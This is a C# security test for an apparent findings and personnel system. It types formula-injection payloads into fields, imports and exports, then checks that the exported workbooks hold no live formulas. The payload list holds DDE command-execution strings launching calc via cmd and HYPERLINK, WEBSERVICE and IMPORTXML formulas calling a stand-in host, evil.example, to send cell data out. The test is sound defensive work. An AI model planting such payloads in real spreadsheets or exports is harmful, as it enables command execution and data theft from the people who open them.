using System.IO.Compression;
using System.Text;
using System.Text.RegularExpressions;
using System.Xml.Linq;
using ExcelDataReader;
using Ronghe.Organisation.Appointments;
using Ronghe.Tests.Platform.Spreadsheets;

namespace Ronghe.Figures.Content;

/// <summary>
/// R-28: texts that a spreadsheet would take for formulas, ASCII and full-width, typed wherever people type, looked for in every export.
/// None becomes a formula, each that looks like one is marked as text, and every text comes back letter by letter.
/// </summary>
public sealed partial class Formulas() : Figure("R-28", isShort: true)
{
    static readonly string[] Payloads =
    [
        .. from sign in (string[])["=", "+", "-", "@", "＝", "＋", "－", "＠"]
           from rest in (string[])["1+1", "cmd|' /C calc'!A0", "SUM(1+1)*cmd|' /C calc'!A0", "HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")", "WEBSERVICE(\"http://evil.example\")"]
           select sign + rest,
        "\"=1+1\"", "'=1+1", ";=1+1", "|=1+1", "\u00a0=1+1", "\u3000＝1+1", "\u200b=1+1", "\u200b@SUM(1)", "=DDE(\"cmd\",\"/C calc\",\"x\")", "=IMPORTXML(\"http://evil.example\",\"//a\")", "安全\n=1+1", "安全\t=1+1", "_x003D_1+1", "-1",
        "%0A=1+1", "<f>1+1</f>", "]]><f>1+1</f>",
    ];

    protected override async Task RunAsync(Run run, Tally tally)
    {
        await using var site = await run.Plant.StartAsync(run.Cancel);
        var typed = await TypeAsync(site, run.Plant, run.Cancel);
        var (exports, wrong) = (await ExportsAsync(site, run.Plant, run.Cancel), 0);
        foreach (var (name, bytes, isFindings) in exports)
        {
            foreach (var fault in FaultsIn(bytes)) tally.Lost($"{name}: {fault}");
            var read = TextsIn(bytes);
            foreach (var text in isFindings ? typed : []) wrong += tally.Holds(read.Contains(text), $"{name}: “{text}” did not come back") ? 0 : 1;
        }
        tally.MustSee(FaultsIn(HandMade.Xlsx("<row r=\"1\"><c r=\"A1\"><f>1+1</f><v>2</v></c></row>").ToArray()).Any(), "a formula put into a workbook by hand was not seen");
        tally.MustSee(FaultsIn(HandMade.Xlsx("<row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>＝1+1</t></is></c></row>").ToArray()).Any(), "a text without its mark was not seen");
        (tally.Load, tally.BadInputs) = ($"{exports.Count} exports, {typed.Count} texts", $"{Payloads.Length} payloads");
        tally.Remark = "formulas 0, all texts round-trip";
        if (tally.Losses > 0) tally.Remark = $"{wrong} texts did not come back";
    }

    /// <summary>Reports, grades and assigns with payloads in every field; says what the product stored, which may be trimmed.</summary>
    static async Task<List<string>> TypeAsync(Site site, Plant plant, CancellationToken cancel)
    {
        using Caller worker = new(site.Address, plant.Worker.Token), officer = new(site.Address, plant.Officer.Token), system = new(site.Address, plant.Holder(Posts.SystemAdministrator).Token);
        var (texts, number) = (new List<string>(), 0);
        foreach (var payload in Payloads)
        {
            var (id, due) = (Guid.CreateVersion7(), TimeProvider.System.GetUtcNow().AddDays(20).ToString("yyyy-MM-dd"));
            (await worker.PostAsync("/api/v1/findings", new { id, description = payload, place = payload.ReplaceLineEndings(" ") }, cancel: cancel)).Must(201);
            (await officer.PostAsync($"/api/v1/findings/{id}/grading", new { version = 1, grade = "general", basis = payload }, cancel: cancel)).Must();
            (await officer.PostAsync($"/api/v1/findings/{id}/assignment", new
            {
                version = 2, personId = plant.Named("杨员").PersonId, dueOn = due, unitId = plant.Node(Plant.ShiftOne), duty = payload, standard = payload, measure = payload,
            }, cancel: cancel)).Must();
            var stored = (await officer.GetAsync($"/api/v1/findings/{id}", cancel)).Must().Json;
            texts.AddRange(new[] { "description", "duty", "measure" }.Select(field => stored.GetProperty(field).GetString()!));
            await system.PostAsync("/api/v1/units", new { name = payload, code = $"F{++number:00}", parentId = plant.Node(Plant.Operations), unitKind = "crew" }, cancel: cancel);
            await system.PostAsync("/api/v1/people", new
            {
                number = $"7{number:00000}", unitId = plant.Node(Plant.Operations), facts = new { name = $"名{number}", position = payload, jobTitle = payload, education = payload, politicalStatus = "masses" },
            }, cancel: cancel);
        }
        return [.. texts.Distinct()];
    }

    static async Task<List<(string Name, byte[] Bytes, bool IsFindings)>> ExportsAsync(Site site, Plant plant, CancellationToken cancel)
    {
        var exports = new List<(string, byte[], bool)>();
        using var officer = await Browser.OfAsync(site.Address, plant.Officer.Number, plant.Officer.Password);
        exports.Add(("/findings/export", await officer.BytesAsync("/findings/export"), true));
        foreach (var kind in new[] { "findings", "org", "people" })
        {
            var file = Path.Combine(site.Folder, $"{kind}.xlsx");
            await site.MustCommandAsync(["export", kind, file], cancel: cancel);
            exports.Add(($"ronghe export {kind}", await File.ReadAllBytesAsync(file, cancel), kind == "findings"));
        }
        exports.Add(("the file with its errors marked", await MarkedAsync(site, plant, cancel), false));
        return exports;
    }

    /// <summary>A roster full of payloads comes back with remarks.</summary>
    static async Task<byte[]> MarkedAsync(Site site, Plant plant, CancellationToken cancel)
    {
        using var system = new Caller(site.Address, plant.Holder(Posts.SystemAdministrator).Token);
        var rows = Payloads.Select((payload, i) => $"{(i % 3 == 0 ? "" : $"8{i:00000}")},{Csv(payload)},{Csv(payload)},{Csv(payload)}");
        using var form = new MultipartFormDataContent { { new StringContent("people"), "kind" }, { new StringContent("工号,姓名,部门,岗位\n" + string.Join('\n', rows), Encoding.UTF8), "file", "=1+1.csv" } };
        var run = (await system.SendAsync(HttpMethod.Post, "/api/v1/imports", form, cancel: cancel)).Must(201).Json.GetProperty("id").GetGuid();
        return await system.BytesAsync($"/api/v1/imports/{run}/marked-file", cancel);
    }

    static string Csv(string text) => $"\"{text.Replace("\"", "\"\"", StringComparison.Ordinal)}\"";

    /// <summary>Formulas, links to elsewhere, and texts that look like formulas without the mark that says that they are none.</summary>
    static IEnumerable<string> FaultsIn(byte[] workbook)
    {
        using var zip = new ZipArchive(new MemoryStream(workbook));
        XNamespace main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
        var marked = Part(zip, "xl/styles.xml")?.Root?.Element(main + "cellXfs")?.Elements(main + "xf").Select(xf => (string?)xf.Attribute("quotePrefix") == "1").ToList() ?? [];
        var shared = Part(zip, "xl/sharedStrings.xml")?.Root?.Elements(main + "si").Select(si => string.Concat(si.Descendants(main + "t").Select(t => t.Value))).ToList() ?? [];
        foreach (var entry in zip.Entries)
        {
            if (entry.FullName.Contains("externalLink", StringComparison.Ordinal)) yield return $"{entry.FullName} leads elsewhere";
            if (!entry.FullName.StartsWith("xl/worksheets/sheet", StringComparison.Ordinal)) continue;
            foreach (var cell in Part(zip, entry.FullName)!.Descendants(main + "c"))
            {
                if (cell.Element(main + "f") is { } formula) yield return $"formula {formula.Value}";
                var text = (string?)cell.Attribute("t") == "s" ? shared[int.Parse(cell.Element(main + "v")!.Value)] : string.Concat(cell.Descendants(main + "t").Select(t => t.Value));
                if (LooksLikeFormula().IsMatch(text) && marked.ElementAtOrDefault((int?)cell.Attribute("s") ?? 0) != true) yield return $"{cell.Attribute("r")?.Value} “{text}” is not marked as text";
            }
        }
    }

    static XDocument? Part(ZipArchive zip, string path)
    {
        if (zip.GetEntry(path) is not { } entry) return null;
        using var stream = entry.Open();
        return XDocument.Load(stream, LoadOptions.PreserveWhitespace);
    }

    /// <summary>With a reader that is not the product's.</summary>
    static HashSet<string> TextsIn(byte[] workbook)
    {
        using var reader = ExcelReaderFactory.CreateReader(new MemoryStream(workbook));
        var texts = new HashSet<string>();
        do
            while (reader.Read())
                for (var column = 0; column < reader.FieldCount; column++)
                    if (reader.GetValue(column) is string text) texts.Add(text);
        while (reader.NextResult());
        return texts;
    }

    [GeneratedRegex(@"^[\s\u200b]*[=+\-@＝＋－＠]")]
    private static partial Regex LooksLikeFormula();
}
